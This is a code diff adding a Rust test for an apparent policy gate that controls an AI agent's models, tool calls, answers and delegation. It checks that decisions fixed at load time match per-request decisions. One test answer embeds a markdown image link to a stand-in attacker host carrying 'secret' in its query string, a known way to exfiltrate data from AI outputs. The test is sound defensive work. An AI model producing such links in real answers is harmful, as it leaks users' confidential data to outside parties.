@@ -558,3 +558,113 @@ permit(principal, action in Action::"call_tool", resource);
     }
     assert_eq!(first.verdict, Verdict::Deny);
 }
+
+/// A target none of whose policies has a `when` or `unless` is decided once, when the policies
+/// load. That decision must be the one evaluating each request gives: the same gate with one
+/// never-matching conditional policy added (so every target is evaluated per request) decides
+/// every request below the same, whatever the labels, approvals, arguments and answer.
+#[test]
+fn decisions_made_once_at_load_equal_those_made_per_request() {
+    let unconditional = r#"
+@id("model-ok")
+permit(principal, action == Action::"use_model", resource == Model::"small");
+@id("no-delete")
+forbid(principal, action == Action::"customers.delete", resource);
+@id("lookups")
+permit(principal, action in Action::"call_tool", resource in ToolGroup::"read_only");
+@id("refunds-ask")
+@ask("refunds need a person")
+permit(principal, action == Action::"refunds.issue", resource);
+@id("not-this-agent")
+permit(principal == Agent::"researcher", action, resource);
+@id("answers-held")
+@ask("answers wait for a person")
+permit(principal, action == Action::"respond", resource);
+@id("delegate")
+permit(principal, action == Action::"delegate", resource == Agent::"researcher");
+"#;
+    let once = gate_with(unconditional).unwrap();
+    let each = gate_with(&format!(
+        "{unconditional}\n@id(\"never\")\nforbid(principal, action, resource) when {{ context.budget_percent > 1000 }};\n"
+    ))
+    .unwrap();
+    let calls = [
+        ("orders.lookup", json!({"order_id": "A-1"})),
+        ("web.get", json!({"url": "https://example.com/x"})),
+        ("refunds.issue", json!({"order_id": "A-1", "amount": 12.5})),
+        ("customers.delete", json!({"id": "c1"})),
+        ("email.send", json!({"to": "a@example.com", "body": "hi"})),
+        ("payments.wire", json!({"amount": 3})),
+        ("no.such.tool", json!({})),
+    ];
+    let mut compared = 0;
+    for labels in [
+        &[][..],
+        &["untrusted"][..],
+        &["confidential", "untrusted"][..],
+    ] {
+        for approved in [None, Some("ann")] {
+            let f = facts(labels, approved);
+            for model in ["small", "support-script", "unknown"] {
+                assert_eq!(
+                    once.judge_model(model, &f),
+                    each.judge_model(model, &f),
+                    "{model}"
+                );
+                compared += 1;
+            }
+            for (tool, args) in &calls {
+                assert_eq!(
+                    once.judge_tool(tool, args, &f),
+                    each.judge_tool(tool, args, &f),
+                    "{tool}"
+                );
+                compared += 1;
+            }
+            for text in ["done", "see ![x](https://evil.example/?q=secret)"] {
+                let answer = rein_policy::answer_facts(text, &Default::default());
+                assert_eq!(
+                    once.judge_answer(&answer, &f),
+                    each.judge_answer(&answer, &f)
+                );
+                compared += 1;
+            }
+            for child in ["researcher", "stranger"] {
+                assert_eq!(
+                    once.judge_delegate(child, "find x", &f),
+                    each.judge_delegate(child, "find x", &f)
+                );
+                compared += 1;
+            }
+            // A sub-agent judged by these (its parent's) policies is another principal.
+            assert_eq!(
+                once.judge_model_as("researcher", "support-script", &f),
+                each.judge_model_as("researcher", "support-script", &f)
+            );
+        }
+    }
+    assert_eq!(compared, 6 * (3 + calls.len() + 2 + 2));
+    // And the verdicts are the policies' own, not all one answer.
+    let f = facts(&[], None);
+    assert_eq!(once.judge_model("small", &f).verdict, Verdict::Allow);
+    assert_eq!(
+        once.judge_model("support-script", &f).verdict,
+        Verdict::Deny
+    );
+    assert_eq!(
+        once.judge_tool("customers.delete", &json!({"id": "c1"}), &f)
+            .verdict,
+        Verdict::Deny
+    );
+    assert_eq!(
+        once.judge_tool(
+            "refunds.issue",
+            &json!({"order_id": "A-1", "amount": 1}),
+            &f
+        )
+        .verdict,
+        Verdict::Ask
+    );
+    let answer = rein_policy::answer_facts("done", &Default::default());
+    assert_eq!(once.judge_answer(&answer, &f).verdict, Verdict::Ask);
+}
